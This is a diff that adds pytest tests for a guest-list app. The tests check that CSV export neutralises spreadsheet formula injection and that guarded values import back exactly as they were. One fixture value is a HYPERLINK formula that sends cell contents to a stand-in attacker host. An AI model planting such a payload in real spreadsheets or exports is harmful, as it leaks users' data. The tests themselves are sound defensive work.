@@ -300,6 +300,44 @@ def test_export_never_hands_excel_a_formula(client, runtime):
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
 
 
+def test_an_exported_list_imports_back_exactly_as_it_was(client, runtime):
+    world = seed(runtime)
+    h = world.headers("admin")
+    for i, (first, last, side, notes) in enumerate([
+            ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-Levi", "+1 side", "-minus"),
+            ("@evil", "Cohen", "@work", "=1+1"), ("'quoted", "O'Brien", "'side", "it's -fine")]):
+        assert client.post(_url(world), json={"first_name": first, "last_name": last, "side": side, "notes": notes,
+                                               "party_size": 3, "children": 1, "phone": f"+97252123400{i}"},
+                           headers=h).status_code == 201
+    exported = client.get(_url(world, ".csv"), headers=h).data
+    assert "'=HYPERLINK" in exported.decode("utf-8-sig") and "'@evil" in exported.decode("utf-8-sig")
+
+    def fields(event_id):
+        page = client.get(f"/api/events/{event_id}/guests", headers=h).get_json()["items"]
+        return sorted(tuple(g[k] for k in ("first_name", "last_name", "phone", "side", "party_size", "children",
+                                            "notes")) for g in page)
+
+    for kind, data in (("text/csv", exported), ("multipart/form-data", {"file": (io.BytesIO(exported), "g.csv")})):
+        copy = client.post("/api/events", json={"name": "Copy"}, headers=h).get_json()["id"]
+        r = client.post(f"/api/events/{copy}/guests/import", data=data, content_type=kind, headers=h)
+        assert (r.get_json()["created"], r.get_json()["rejected"]) == (4, 0), r.get_json()
+        assert fields(copy) == fields(world.event_id), kind
+
+
+def test_a_json_import_reads_the_exports_guard_too(client, runtime):
+    world = seed(runtime)
+    r = client.post(_url(world, "/import"), json=[{"first_name": "'@evil", "phone": "'+972521234567",
+                                                   "notes": "'-minus", "side": "'=x"},
+                                                  {"first_name": "'Quote", "phone": "+972521234568"}],
+                    headers=world.headers("admin"))
+    assert r.get_json()["created"] == 2
+    page = client.get(_url(world, "?search=evil"), headers=world.headers("admin")).get_json()["items"]
+    assert [(g["first_name"], g["phone"], g["notes"], g["side"]) for g in page] == [
+        ("@evil", "+972521234567", "-minus", "=x")]
+    assert client.get(_url(world, "?search=quote"), headers=world.headers("admin")).get_json()["items"][0][
+        "first_name"] == "'Quote"  # an apostrophe that guards nothing is the name's own
+
+
 def test_a_party_size_of_infinity_in_a_csv_is_a_line_refused_not_a_crash(client, runtime):
     world = seed(runtime)
     body = "name,phone,party\nAvi,+972521234567,inf\nBea,+972521234568,1e999\nCy,+972521234569,2\n".encode()
